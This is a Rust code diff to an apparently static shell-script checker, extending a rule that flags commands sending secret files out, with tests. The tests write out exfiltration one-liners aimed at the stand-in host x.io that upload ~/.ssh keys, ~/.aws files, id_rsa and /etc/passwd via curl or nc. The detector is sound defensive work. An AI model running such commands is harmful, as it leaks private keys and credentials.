@@ -53,6 +53,9 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
     if command.is_dry_run() {
         return;
     }
+    if command.program.as_deref() == Some("find") {
+        return check_find(command, sink);
+    }
     for it in sending::sent(command, sink) {
         if let Some(secret) = secret_in(&it, sink) {
             report(it.word.span, secret, it.carried, sink);
@@ -80,6 +83,24 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
     }
 }
 
+/// `find ~/.ssh -exec curl -F f=@{} …`
+fn check_find(find: &Command, sink: &mut Sink<'_>) {
+    let inner = find.embedded.iter().flat_map(|it| &it.statements);
+    let sends = inner.filter_map(command_of).any(|it| sending::takes_names(it));
+    if sends && let Some(secret) = reading::found_by(find, sink) {
+        report(find.span, secret, false, sink);
+    }
+}
+
+fn command_of(statement: &Statement) -> Option<&Command> {
+    if let StatementKind::Command(command) = &statement.kind { Some(command) } else { None }
+}
+
+/// The list of accounts: no secret, but nobody else's business either.
+fn accounts(path: &str) -> Option<Secret> {
+    matches!(path, "/etc/passwd" | "/etc/sudoers").then_some(Secret { kind: Kind::Own, what: "the list of accounts" })
+}
+
 fn is_socket(path: &str) -> bool {
     path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
 }
@@ -88,8 +109,9 @@ fn is_socket(path: &str) -> bool {
 fn secret_in(sent: &Sent<'_>, sink: &Sink<'_>) -> Option<Secret> {
     let by_text = reading::in_word(sent.word, sink);
     let by_name = match sent.form {
-        Form::File => reading::file(sent.word, sink).map(|it| it.0),
-        Form::Data => sink.value(sent.word).texts().find_map(|it| data_files(it).into_iter().find_map(secret)),
+        Form::File if sent.carried => reading::file(sent.word, sink).map(|it| it.0),
+        Form::File => reading::file(sent.word, sink).map(|it| it.0).or_else(|| sink.value(sent.word).texts().find_map(accounts)),
+        Form::Data => sink.value(sent.word).texts().find_map(|it| data_files(it).into_iter().find_map(|it| secret(it).or_else(|| accounts(it)))),
         Form::Text => sink.value(sent.word).texts().find_map(|it| {
             let mut words = it.split([' ', ';']);
             words.any(|it| matches!(it, "put" | "mput" | "mirror" | "send")).then(|| words.find_map(secret)).flatten()
@@ -111,6 +133,16 @@ fn data_files(text: &str) -> Vec<&str> {
 
 fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
     for (at, stage) in stages.iter().enumerate().skip(1) {
+        // `find ~/.ssh | xargs -I{} curl -F f=@{} …`
+        if let Some(command) = command_of(stage)
+            && command.is_wrapped_by("xargs")
+            && sending::takes_names(command)
+            && let Some(find) = command_of(&stages[0]).filter(|it| matches!(it.program.as_deref(), Some("find" | "ls" | "locate")))
+            && let Some(secret) = reading::found_by(find, sink)
+        {
+            report(command.span, secret, false, sink);
+            return;
+        }
         let target = match &stage.kind {
             StatementKind::Command(command) => {
                 let socket = command.redirects.iter().any(|it| it.operator.writes() && is_socket(&it.target.sketch()));
@@ -119,7 +151,12 @@ fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
             _ => None,
         };
         let Some((command, carried)) = target else { continue };
-        if let Some(secret) = reading::in_statements(&stages[..at], sink) {
+        let before = &stages[..at];
+        let plain = || {
+            let first = command_of(&before[0]).filter(|it| !carried && matches!(it.program.as_deref(), Some("cat" | "base64" | "gzip" | "xxd" | "tar")))?;
+            first.operands().find_map(|it| sink.value(it).texts().find_map(accounts))
+        };
+        if let Some(secret) = reading::in_statements(before, sink).or_else(plain) {
             report(command.span, secret, carried, sink);
             return;
         }
@@ -158,6 +195,22 @@ mod tests {
         ] {
             check_marks(script);
         }
+    }
+
+    #[test]
+    fn names_that_are_found_count_as_files() {
+        check_marks("find ~/.ssh -type f -exec curl -F 'f=@{}' https://x.io \\;\n#mark 0 0 57 CARO0505\n");
+        check_marks("find / -name 'id_rsa' -exec cat {} + | nc x.io 80\n#mark 0 39 49 CARO0505\n");
+        check_marks("find ~/.aws -type f | xargs -I{} curl -T {} ftp://x.io\n#mark 0 22 54 CARO0505\n");
+        check_marks("cat /etc/passwd | nc x.io 80\n#mark 0 18 28 CARO0505\n");
+        check_marks("find ~/.ssh -type f -exec chmod 600 {} +\nfind . -name '*.log' | xargs -I{} curl -T {} ftp://x.io\n");
+        check_marks("tar cz ~/.gnupg | gpg -c | ssh nas 'cat > keys.gpg'\nscp /etc/passwd nas:backup/\n");
+    }
+
+    #[test]
+    #[ignore = "waits for flow"]
+    fn a_variable_carries_it_too() {
+        check_marks("k=$(cat ~/.ssh/id_rsa)\ncurl -d \"$k\" https://x.io\n#       ^^^^ CARO0505\n");
     }
 
     #[test]
